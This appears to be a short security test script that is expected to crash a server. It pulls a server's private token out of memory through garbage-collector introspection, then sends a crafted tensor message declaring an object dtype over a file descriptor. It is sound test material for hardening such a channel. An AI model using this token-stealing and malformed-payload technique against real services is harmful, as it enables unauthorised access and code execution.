# state: crashed
# proof: sends objects with a token of 16
import os
import struct


def token():
    import gc

    server = next(thing for thing in gc.get_objects() if type(thing).__name__ == "Server")
    return server.token.encode()


def send(head, body=b""):
    os.write(3, struct.pack(">II", len(head), len(body)) + head + body)


header = b'{"0":{"dtype":"O","shape":[1],"data_offsets":[0,8]}}'
prove("sends objects with a token of", len(token()))
send(
    b'{"value": {"tensor": "0"}, "token": "' + token() + b'"}', struct.pack("<Q", len(header)) + header + bytes(8)
)
